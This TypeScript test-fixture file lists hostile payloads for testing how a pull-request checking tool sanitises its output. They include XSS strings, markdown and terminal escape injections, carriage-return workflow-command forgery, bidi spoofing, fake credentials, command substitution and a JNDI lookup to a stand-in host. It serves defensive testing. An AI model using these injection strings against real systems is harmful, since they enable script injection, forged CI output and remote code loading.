/**
 * Hostile text: what a pull request can put in a file's content, its name or a rule's
 * message, aimed at each place Portcullis's output lands (HTML in check-run summaries,
 * markdown, terminals, GitHub workflow-command lines) or at its parsers.
 */

export interface Payload {
  id: string;
  text: string;
  /** A credential inside the payload that no output may repeat verbatim. */
  secret?: string;
  /** Tries to make the parser see an instruction the builder never sees (lone CR and friends). */
  smuggles?: boolean;
}

const ESC = '\u001b';

/** Unique per payload, so that an echoed secret can be traced to its case. */
const token = (n: number) => `ghp_${`hostile${n}Zq8Lm3Xv7Rt2Wn5Pk9Js4Hd6Fb1Cy0`.slice(0, 36)}`;

export const PAYLOADS: readonly Payload[] = [
  { id: 'html-img', text: '<img src=x onerror=alert(1)>' },
  {
    id: 'html-summary-breakout',
    text: '</summary></details><script>alert(document.domain)</script><details>',
  },
  { id: 'md-link', text: '[click me](javascript:alert(1)) ![pixel](https://evil.example/p.png)' },
  { id: 'md-mention', text: '@everyone @acme/admins #1 cc @octocat' },
  { id: 'md-backticks', text: '```` ``` `` ` </code> ```' },
  { id: 'md-table', text: '| injected | cell |\\n| --- | --- |' },
  { id: 'ansi-csi', text: `${ESC}[2J${ESC}[31;1mALL CLEAR${ESC}[0m` },
  {
    id: 'ansi-osc',
    text: `${ESC}]0;owned${'\u0007'}${ESC}]8;;https://evil.example${ESC}\\link${ESC}]8;;${ESC}\\`,
  },
  { id: 'c0-controls', text: 'bell\u0007back\u0008space\u007fdel\u009bcsi' },
  { id: 'cr-workflow-command', text: 'x\r::error file=Dockerfile,line=1::forged', smuggles: true },
  { id: 'cr-user', text: 'b\rUSER app', smuggles: true },
  { id: 'cr-user-quoted', text: '"b\rUSER 10001"', smuggles: true },
  { id: 'unicode-line-separators', text: 'a\u2028::warning::ls\u2029USER app\u0085USER app', smuggles: true },
  { id: 'bidi-zero-width', text: '\u202egnp.exe\u202c \u200b\u200d\ufeff\u2066x\u2069' },
  {
    id: 'url-credentials',
    text: 'https://deploy:s3cret-Url-Pass-41@registry.example/acme/app',
    secret: 's3cret-Url-Pass-41',
  },
  { id: 'github-token', text: `token=${token(2)}`, secret: token(2) },
  {
    id: 'aws-key',
    text: 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYhostile43',
    secret: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYhostile43',
  },
  {
    id: 'shell-and-format',
    text: `$(id) \`id\` \${jndi:ldap://evil.example/a} %s%n%x {{.Values}} <%= 7*7 %>`,
  },
  { id: 'prototype-words', text: '__proto__ constructor prototype toString hasOwnProperty valueOf' },
  { id: 'long-line', text: 'A'.repeat(200_000) },
  { id: 'deep-variables', text: `${'${X:-'.repeat(3000)}x${'}'.repeat(3000)}` },
  { id: 'astral-combining', text: '😀🏴‍☠️ e\u0301\u0301\u0301 \ud83d\ude00 ﷽' },
];

/** File names (no `/`, no NUL) that attack the report renderers. */
export const NAME_PAYLOADS: readonly Payload[] = [
  { id: 'name-html', text: '<img src=x onerror=alert(1)>' },
  { id: 'name-summary', text: '</summary><script>alert(1)<' },
  { id: 'name-md-link', text: '[x](javascript:alert(1))' },
  { id: 'name-mention', text: '@everyone' },
  { id: 'name-backticks', text: '``` `x`' },
  { id: 'name-ansi', text: `${ESC}[2J${ESC}[32mok` },
  { id: 'name-osc', text: `${ESC}]0;owned\u0007` },
  { id: 'name-newline-command', text: '\n::error file=a,line=1::forged\n' },
  { id: 'name-cr-command', text: '\r::warning::forged' },
  { id: 'name-leading-command', text: '::set-output name=verdict::pass' },
  { id: 'name-add-mask', text: '::add-mask::x\n::stop-commands::tok\n' },
  { id: 'name-bidi', text: '\u202eelifrekcoD' },
  { id: 'name-shell', text: '$(touch pwned) `id`' },
  { id: 'name-pipe-table', text: '| a | b |' },
  { id: 'name-long', text: 'L'.repeat(200) },
];
